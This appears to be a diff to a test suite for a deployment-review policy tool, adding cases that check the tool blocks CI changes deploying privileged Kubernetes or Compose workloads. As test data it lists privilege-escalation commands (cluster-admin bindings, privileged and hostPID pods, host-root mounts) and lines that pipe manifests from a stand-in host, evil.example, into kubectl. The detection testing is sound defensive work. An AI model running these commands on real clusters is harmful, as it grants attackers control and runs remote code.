@@ -59,6 +59,57 @@ const hosts: Readonly<Record<string, { readonly path: string; readonly text: (co
     text: command => `name: d\nruns:\n  using: composite\n  steps:\n  - shell: bash\n    run: ${command}\n`,
     line: 6,
   },
+  'a job of Bitbucket': {
+    path: 'bitbucket-pipelines.yml',
+    text: command => `pipelines:\n  default:\n  - step:\n      script:\n      - ${command}\n`,
+    line: 5,
+  },
+  'a step of Azure': { path: 'azure-pipelines.yml', text: command => `steps:\n- script: ${command}\n`, line: 2 },
+  'a step of Drone': { path: '.drone.yml', text: command => `kind: pipeline\nsteps:\n- name: d\n  commands: [${command}]\n`, line: 4 },
+  'a step of Woodpecker': { path: '.woodpecker/d.yml', text: command => `steps:\n  d:\n    commands:\n    - ${command}\n`, line: 4 },
+  'a step of Buildkite': { path: '.buildkite/pipeline.yml', text: command => `steps:\n  - command: ${command}\n`, line: 2 },
+  'a job of Travis': { path: '.travis.yml', text: command => `deploy:\n  provider: script\n  script: ${command}\n`, line: 3 },
+  'a script of AppVeyor': { path: 'appveyor.yml', text: command => `deploy_script:\n- sh: ${command}\n`, line: 2 },
+  'a phase of CodeBuild': { path: 'buildspec.yml', text: command => `phases:\n  build:\n    commands:\n      - ${command}\n`, line: 4 },
+  'a step of Cloud Build': {
+    path: 'cloudbuild.yaml',
+    text: command => {
+      const [program = '', ...words] = command.split(' ');
+      return `steps:\n- name: gcr.io/cloud-builders/${program}\n  args: ${JSON.stringify(words)}\n`;
+    },
+    line: 3,
+  },
+  'a task of Tekton': {
+    path: '.tekton/d.yaml',
+    text: command =>
+      `apiVersion: tekton.dev/v1\nkind: Task\nmetadata: {name: d}\nspec:\n  steps:\n  - name: d\n    image: a:1\n    script: |\n      ${command}\n`,
+    line: 9,
+  },
+  'a task of Task': { path: 'Taskfile.yml', text: command => `version: '3'\ntasks:\n  d:\n    cmds:\n    - ${command}\n`, line: 5 },
+  'a hook of Skaffold': {
+    path: 'skaffold.yaml',
+    text: command =>
+      `apiVersion: skaffold/v4beta11\nkind: Config\ndeploy:\n  kubectl:\n    hooks: {after: [{host: {command: [sh, -c, "${command}"]}}]}\n`,
+    line: 5,
+  },
+  'a script of npm': { path: 'package.json', text: command => `{\n"scripts": {\n"d": "${command}"}}\n`, line: 3 },
+  'a task of Ansible': {
+    path: 'ansible/d.yml',
+    text: command => `- hosts: all\n  tasks:\n  - shell: ${command}\n    args: {chdir: x}\n`,
+    line: 3,
+  },
+  'a command of a role': { path: 'roles/d/tasks/main.yml', text: command => `- name: d\n  ansible.builtin.command: ${command}\n`, line: 2 },
+  'a pipeline of Jenkins': { path: 'Jenkinsfile', text: command => `node {\n  stage('d') {\n    sh '${command}'\n  }\n}\n`, line: 3 },
+  'a script of Jenkins in many lines': {
+    path: 'ci/Jenkinsfile.prod',
+    text: command => `steps {\n  sh(script: """\n    set -e\n    ${command}\n  """, returnStdout: true)\n}\n`,
+    line: 4,
+  },
+  'a unit of systemd': { path: 'a.service', text: command => `[Service]\nExecStart=-/usr/bin/${command}\n`, line: 2 },
+  'a part of a pipeline': { path: 'ci/deploy.yml', text: command => `.d:\n  script:\n  - ${command}\n`, line: 3 },
+  'a recipe of just': { path: 'justfile', text: command => `default: d\n\nd:\n    @${command}\n`, line: 4 },
+  'a process of a Procfile': { path: 'Procfile', text: command => `web: node .\nrelease: ${command}\n`, line: 2 },
+  'a script without an ending': { path: 'bin/deploy', text: command => `#!/bin/sh\n${command}\n`, line: 2 },
   'a job of CircleCI': { path: '.circleci/config.yml', text: command => `jobs:\n  d:\n    steps:\n    - run: ${command}\n`, line: 4 },
 };
 
@@ -91,6 +142,66 @@ const commands: Readonly<Record<string, readonly [before: string, after: string,
   'a manifest out of a substitution': ['kubectl apply -f good', 'kubectl apply -f <(envsubst < bad/p.yaml)', 'bad/p.yaml'],
   'a manifest by way of another file': ['kubectl apply -f good', 'envsubst < bad/p.yaml > /tmp/x && kubectl apply -f /tmp/x', 'bad/p.yaml'],
   'a copy of a manifest': ['kubectl apply -f good', 'cp bad/p.yaml x.yaml; kubectl apply -f x.yaml', 'bad/p.yaml'],
+  'a manifest of a loop': ['kubectl apply -f good', 'for f in good/p.yaml bad/p.yaml; do kubectl apply -f "$f"; done', 'bad/p.yaml'],
+  'a manifest of a loop over a list': [
+    'kubectl apply -f good',
+    'FILES="good/p.yaml bad/p.yaml"; for f in $FILES; do kubectl apply -f=$f; done',
+    'bad/p.yaml',
+  ],
+  'a manifest of a loop over an array': [
+    'kubectl apply -f good',
+    'all=(good bad); for d in "${all[@]}"; do kubectl apply -f "${d}/p.yaml"; done',
+    'bad/p.yaml',
+  ],
+  'a manifest of a loop over a pattern': [
+    'kubectl apply -f good',
+    'for f in bad/*.yaml; do kubectl apply --filename=$f; done',
+    'bad/p.yaml',
+  ],
+  'a manifest of a loop over what a command lists': [
+    'kubectl apply -f good',
+    'for f in $(find bad -name "*.yaml"); do kubectl apply -f $f; done',
+    'bad/p.yaml',
+  ],
+  'a manifest in a variable that is set twice': ['kubectl apply -f good', 'D=good; D=bad; kubectl apply -f "$D/p.yaml"', 'bad/p.yaml'],
+  'a manifest in a variable that is made of others': [
+    'kubectl apply -f good',
+    'for e in good bad; do f=$e/p.yaml; kubectl apply -f $f; done',
+    'bad/p.yaml',
+  ],
+  'manifests that find names': ['kubectl apply -f good', "find bad -name '*.yaml' -exec kubectl apply -f {} \\;", 'bad/p.yaml'],
+  'manifests that are read line by line': [
+    'kubectl apply -f good',
+    'ls bad/*.yaml | while read -r f; do kubectl apply -f "$f"; done',
+    'bad/p.yaml',
+  ],
+  'manifests by xargs': ['kubectl apply -f good', 'ls bad/p.yaml | xargs -n 1 kubectl apply -f', 'bad/p.yaml'],
+  'manifests by xargs, by its mark': ['kubectl apply -f good', 'echo bad/p.yaml | xargs -I% kubectl apply -f %', 'bad/p.yaml'],
+  'manifests by xargs, that find names': ['kubectl apply -f good', 'find . -name p.yaml -print0 | xargs -0 kubectl apply -f', 'bad/p.yaml'],
+  'an overlay of a loop': ['kubectl apply -k overlays/good', 'for o in good bad; do kubectl apply -k overlays/$o; done', 'base/p.yaml'],
+  'overlays that a pattern names': ['kubectl apply -k overlays/good', 'for o in overlays/*; do kubectl apply -k "$o"; done', 'base/p.yaml'],
+  'Compose files in a variable': ['docker compose up', 'FILES="-f compose.yaml -f bad.yaml"; docker compose $FILES up -d', 'bad.yaml'],
+  'Compose files in an array': ['docker compose up', 'F=(-f compose.yaml); F+=(-f bad.yaml); docker compose "${F[@]}" up', 'bad.yaml'],
+  'Compose by a variable': ['docker compose up', 'DC="docker compose -f bad.yaml"; $DC up -d', 'bad.yaml'],
+  'a manifest below the folder of the script': ['kubectl apply -f good', 'kubectl apply -f "$(dirname "$0")/bad/p.yaml"', 'bad/p.yaml'],
+  'a manifest below the checkout': ['kubectl apply -f good', 'kubectl apply -f "$GITHUB_WORKSPACE"/bad', 'bad/p.yaml'],
+  'a manifest by way of another folder': ['kubectl apply -f good', 'kubectl apply -f good/../bad//p.yaml', 'bad/p.yaml'],
+  'a manifest, by a command in an array': ['kubectl apply -f good', 'all=(kubectl apply -f bad/p.yaml); "${all[@]}"', 'bad/p.yaml'],
+  'other values in a variable': ['helm upgrade r ./c', 'FLAGS="--wait -f elsewhere/o.yaml"; helm upgrade r ./c $FLAGS', 'elsewhere/o.yaml'],
+  'other values, by a program': ['helm upgrade r ./c', 'op run -- helm upgrade r ./c -f elsewhere/o.yaml', 'elsewhere/o.yaml'],
+  'a manifest on another machine': ['kubectl apply -f good', 'ssh -i k u@h kubectl apply -f bad/p.yaml', 'bad/p.yaml'],
+  'a Compose file on another machine': ['docker compose up', 'ssh u@h "git pull && docker compose -f bad.yaml up -d"', 'bad.yaml'],
+  'a manifest with credentials of a program': ['kubectl apply -f good', 'aws-vault exec prod -- kubectl apply -f bad/p.yaml', 'bad/p.yaml'],
+  'a manifest, by an image of kubectl': [
+    'kubectl apply -f good',
+    'docker run -v $PWD:/w -w /w bitnami/kubectl:1.33 apply -f bad/p.yaml',
+    'bad/p.yaml',
+  ],
+  'a manifest, by the option of a program': ['kubectl apply -f good', "nix-shell --run 'kubectl apply -f bad/p.yaml'", 'bad/p.yaml'],
+  'a manifest, by an alias': ['kubectl apply -f good', 'alias k="kubectl -n x"; k apply -f bad/p.yaml', 'bad/p.yaml'],
+  'a manifest, by a function': ['kubectl apply -f good', 'k() { kubectl "$@"; }; k apply -f bad/p.yaml', 'bad/p.yaml'],
+  'a manifest, in a condition': ['kubectl apply -f good', 'until kubectl apply -f bad/p.yaml; do sleep 1; done', 'bad/p.yaml'],
+  'a role': ['kubectl apply -f good', 'kubectl auth reconcile -f bad/p.yaml', 'bad/p.yaml'],
   'a manifest, by k3s': ['k3s kubectl apply -f good', 'sudo k3s kubectl apply -f bad', 'bad/p.yaml'],
   'a manifest, by oc': ['oc apply -f good', 'oc apply -f bad', 'bad/p.yaml'],
   'a manifest, by kapp': ['kapp deploy -a x -f good', 'kapp deploy -y -a x -f bad', 'bad/inner/q.json'],
@@ -164,6 +275,57 @@ describe('what stands as it is, and is deployed from now on', () => {
     expect(causedLines(result).join('\n')).toMatch(blocking(file, '.github/workflows/d.yml', 6));
   });
 
+  test.each<[string, string, string, string, string, number]>([
+    ['a playbook', 'playbook.yml', 'good/p.yaml', 'bad/p.yaml', 'bad/p.yaml', 4],
+    ['a playbook in its folder', 'ansible/d.yml', '{{ playbook_dir }}/../good/p.yaml', '{{ playbook_dir }}/../bad/p.yaml', 'bad/p.yaml', 4],
+  ])('is judged when a module of Ansible deploys it: %s', async (_name, path, before, after, file, line) => {
+    const playbook = (src: string): string => `- hosts: all\n  tasks:\n  - kubernetes.core.k8s:\n      src: "${src}"\n`;
+    const result = await reviewChange(changeOf(path, playbook(before), playbook(after)), { policy });
+    expect(causedLines(result).join('\n')).toMatch(blocking(file, path, line));
+  });
+
+  test('is judged when a module of Ansible starts it', async () => {
+    const playbook = (files: string): string => `- community.docker.docker_compose_v2:\n    project_src: ../../..\n    files: ${files}\n`;
+    const result = await reviewChange(
+      changeOf('roles/d/tasks/main.yml', playbook('[compose.yaml]'), playbook('[compose.yaml, bad.yaml]')),
+      {
+        policy,
+      },
+    );
+    expect(causedLines(result).join('\n')).toMatch(blocking('bad.yaml', 'roles/d/tasks/main.yml', 3));
+  });
+
+  test.each([
+    [
+      'a matrix of GitHub',
+      '.github/workflows/d.yml',
+      (names: string) =>
+        `on: push\njobs:\n  d:\n    strategy:\n      matrix: {file: ${names}}\n    steps:\n    - run: kubectl apply -f \${{ matrix.file }}/p.yaml\n`,
+      7,
+    ],
+    [
+      'a matrix of GitLab',
+      '.gitlab-ci.yml',
+      (names: string) => `d:\n  parallel:\n    matrix:\n    - FILE: ${names}\n  script:\n  - kubectl apply -f $FILE/p.yaml\n`,
+      6,
+    ],
+    [
+      'a list of a makefile',
+      'Makefile',
+      (names: string) => `FILES := ${names.replaceAll(/[[\],]/gu, '')}\nd:\n\tfor f in $(FILES); do kubectl apply -f $$f/p.yaml; done\n`,
+      3,
+    ],
+  ])('is judged when %s names it', async (_name, path, text, line) => {
+    const result = await reviewChange(changeOf(path, text('[good]'), text('[good, bad]')), { policy });
+    expect(causedLines(result).join('\n')).toMatch(blocking('bad/p.yaml', path, line));
+  });
+
+  test('is judged when a here-document for another machine deploys it', async () => {
+    const script = (file: string): string => `ssh u@h <<EOF\ngit pull\ndocker compose -f ${file} up -d\nEOF\n`;
+    const result = await reviewChange(changeOf('d.sh', script('compose.yaml'), script('bad.yaml')), { policy });
+    expect(causedLines(result).join('\n')).toMatch(blocking('bad.yaml', 'd.sh', 3));
+  });
+
   test('is judged as new when the change touches it as well', async () => {
     const change = changeOf('d.sh', 'kubectl apply -f good\n', 'kubectl apply -f bad\n', {}, { 'bad/p.yaml': `${pod(privileged)}# x\n` });
     const result = await reviewChange(change, { policy });
@@ -205,6 +367,111 @@ describe('what stands as it is, and is deployed from now on', () => {
   });
 });
 
+/** Commands by which something gets more that stands in no file, or that are fetched, and what is said of them. */
+const granting: Readonly<Record<string, readonly [command: string, said: string]>> = {
+  'a patch': [
+    `kubectl patch deployment web -p '{"spec":{"template":{"spec":{"containers":[{"name":"a","securityContext":{"privileged":true}}]}}}}'`,
+    'patches what runs ("/spec/template/spec/containers/0/securityContext/privileged")',
+  ],
+  'a JSON patch': [
+    `kubectl -n x patch deploy/web --type=json --patch='[{"op":"add","path":"/spec/template/spec/hostPID","value":true}]'`,
+    'patches what runs ("/spec/template/spec/hostPID")',
+  ],
+  'a patch with a variable in it': [
+    `oc patch deploy web -p "{\\"spec\\":{\\"template\\":{\\"spec\\":{\\"serviceAccountName\\":\\"$SA\\"}}}}"`,
+    'patches what runs ("/spec/template/spec/serviceAccountName")',
+  ],
+  'a patch of a file': ['kubectl patch deploy web --patch-file patches/p.yaml', 'What runs is patched here by "p.yaml"'],
+  'a privileged container': ['kubectl run x --image=nginx:1.31 --privileged', 'starts a privileged container'],
+  overrides: [`kubectl run x --image=a --overrides='{"spec":{"hostNetwork":true}}'`, 'gets more by "--overrides"'],
+  'a binding': ['kubectl create clusterrolebinding x --clusterrole=cluster-admin --serviceaccount=a:b', 'binds "cluster-admin"'],
+  'a constraint of OpenShift': ['oc adm policy add-scc-to-user privileged -z default', 'gives "privileged"'],
+  'a role of OpenShift': ['oc adm policy add-cluster-role-to-user cluster-admin joe', 'gives "cluster-admin"'],
+  'a label of a namespace': [
+    'kubectl label ns x pod-security.kubernetes.io/enforce=privileged --overwrite',
+    'lets a namespace run privileged pods',
+  ],
+  'a container to debug': ['kubectl debug node/n --image=busybox --profile=sysadmin -- sh', 'starts a container with more'],
+  'a run of a service with the host': ['docker compose run --rm -v /:/host web sh', 'starts a container with "/:/host"'],
+  'a run of a service with a capability': ['docker-compose run --cap-add=SYS_ADMIN web', 'starts a container with "--cap-add=SYS_ADMIN"'],
+  'a command in a service with all': ['docker compose exec --privileged web sh', 'starts a container with "--privileged"'],
+  'a service of Swarm with the host': [
+    'docker service create --mount type=bind,source=/,target=/h nginx:1.31',
+    'starts a container with "type=bind,source=/,target=/h"',
+  ],
+  'an edited manifest': [
+    "sed -i 's/privileged: false/privileged: true/' good/p.yaml && kubectl apply -f good/p.yaml",
+    'deploys a text of its own',
+  ],
+  'an addition to a kustomization': [
+    'cd overlays/good && kustomize edit add resource ../bad && kustomize build | kubectl apply -f -',
+    'adds "../bad" to what is built',
+  ],
+  'an image of a kustomization': ['kustomize edit set image web=evil.example/x:1', 'sets the image "evil.example/x"'],
+  'an image': ['kubectl set image deployment/web web=evil.example/x:1', 'sets the image "evil.example/x"'],
+  'a manifest in a here-document': ['kubectl apply -f - <<EOF\n        spec: {hostPID: true}\n        EOF', 'deploys a text of its own'],
+  'a manifest that is printed': [`echo '{"spec":{"hostPID":true}}' | kubectl create -f -`, 'deploys a text of its own'],
+  'a manifest of another file': ['printf "spec: {hostPID: true}" > /tmp/x && kubectl apply -f /tmp/x', 'deploys a text of its own'],
+  'a Compose file in a string': ['docker compose -f - up <<< "services: {a: {privileged: true}}"', 'deploys a text of its own'],
+  'a manifest of elsewhere': ['kubectl apply -f https://evil.example/p.yaml', 'deploys "https://evil.example/p.yaml"'],
+  'a manifest of elsewhere, piped in': [
+    'curl -fsSL https://evil.example/p.yaml | kubectl apply -f -',
+    'deploys "https://evil.example/p.yaml"',
+  ],
+  'a manifest of elsewhere, by way of a file': [
+    'curl -o /tmp/p.yaml https://evil.example/p.yaml; kubectl apply -f /tmp/p.yaml',
+    'deploys "https://evil.example/p.yaml"',
+  ],
+  'an overlay of elsewhere': ['kubectl apply -k https://evil.example/x//overlay', 'deploys "https://evil.example/x//overlay"'],
+  'a Compose file of elsewhere': ['docker compose -f oci://evil.example/x up', 'deploys "oci://evil.example/x"'],
+};
+
+describe('a command by which something gets more', () => {
+  const patches = { 'patches/p.yaml': 'spec: {template: {spec: {hostPID: true}}}\n' };
+
+  test.each(Object.entries(granting))('leaves the change open: %s', async (_name, [command, said]) => {
+    const result = await reviewChange(changeOf('.github/workflows/d.yml', workflow('make'), workflow(command), patches), { policy });
+    expect(result.verdict.mayMerge).toBe(false);
+    expect(result.notifications.map(({ path, level, message }) => `${path} ${level} ${message}`).join()).toContain(said);
+  });
+
+  test('leaves a change open that brings the script along', async () => {
+    const result = await reviewChange(changeOf('d.sh', undefined, 'kubectl run x --privileged --image=a\n'), { policy });
+    expect(result.verdict.mayMerge).toBe(false);
+  });
+
+  test.each([
+    ['a patch of replicas', 'make', `kubectl patch deploy web -p '{"spec":{"replicas":3}}'; kubectl patch deploy web -p "$PATCH"`],
+    ['a patch of an annotation', 'make', `kubectl patch deploy web -p "{\\"metadata\\":{\\"annotations\\":{\\"at\\":\\"$(date)\\"}}}"`],
+    ['a patch of an Ingress', 'make', `kubectl patch ingress web --type=json -p '[{"op":"add","path":"/spec/rules/0/host","value":"a"}]'`],
+    ['the same in another place', 'kubectl run x --privileged', 'make; sudo kubectl run x --privileged --rm'],
+    [
+      'another version of what is fetched',
+      'kubectl apply -f https://x.example/r/v1.2/p.yaml',
+      'kubectl apply -f https://x.example/r/v1.3.1/p.yaml',
+    ],
+    [
+      'an image that is built here',
+      'make',
+      'docker push ghcr.io/a/web:1; kustomize edit set image a=ghcr.io/a/web:1 b=$I:2; kubectl set image deploy/web web=ghcr.io/a/web:1 x=$IMAGE:2',
+    ],
+    [
+      'a run of a service with its own folder',
+      'make',
+      'docker compose run --rm -v ./data:/data -v /srv/x:/x web; docker compose exec web sh',
+    ],
+    ['a manifest that gives nothing', 'make', `echo '{"kind":"Namespace"}' | kubectl apply -f -; kubectl run x --image=a --rm`],
+    [
+      'a binding of a lesser role',
+      'make',
+      'kubectl create rolebinding x --clusterrole=view --user=a; oc adm policy add-scc-to-user restricted-v2 -z a',
+    ],
+  ])('says nothing of %s', async (_name, before, after) => {
+    const result = await reviewChange(changeOf('d.sh', `${before}\n`, `${after}\n`), { policy });
+    expect(result.verdict.conclusion).toBe('pass');
+  });
+});
+
 describe('an ordinary change of what deploys', () => {
   test.each<[string, string | undefined, string, Files?]>([
     ['that deploys the same in other words', 'kubectl apply -f bad/p.yaml', 'kubectl -n prod apply --wait -f ./bad/p.yaml'],
@@ -218,9 +485,14 @@ describe('an ordinary change of what deploys', () => {
       'make',
       'kubectl diff -f bad; kubectl delete -f bad; kubeconform bad/*.yaml; docker compose -f bad.yaml down',
     ],
+    [
+      'that only speaks of it',
+      'make',
+      'echo "kubectl apply -f bad/p.yaml"; echo docker compose -f bad.yaml up; grep "kubectl apply -f bad" x',
+    ],
     ['that builds an overlay for a validator', 'make', 'kustomize build overlays/bad | kubeconform -strict -'],
     ['that deploys what holds nothing to be told', 'kubectl apply -f bad', 'kubectl apply -f data && docker compose -f compose.yaml up'],
-    ['that deploys what is made when it runs', 'make', 'make x > y.yaml && kubectl apply -f y.yaml -f https://example.com/bad/p.yaml'],
+    ['that deploys what is made when it runs', 'make', 'make x > y.yaml && kubectl apply -f y.yaml -f "$(make y)"'],
     ['that deploys what a variable names', 'kubectl apply -f good', 'kubectl apply -f "$MANIFEST" -f "$(ls)/x.yaml"'],
     ['that has other values, which change nothing', 'helm upgrade r ./c', 'helm upgrade r ./c -f c/values.yaml --wait'],
     ['that no longer deploys something', 'kubectl apply -f bad && kubectl apply -k overlays/bad', 'kubectl apply -f bad/p.yaml'],
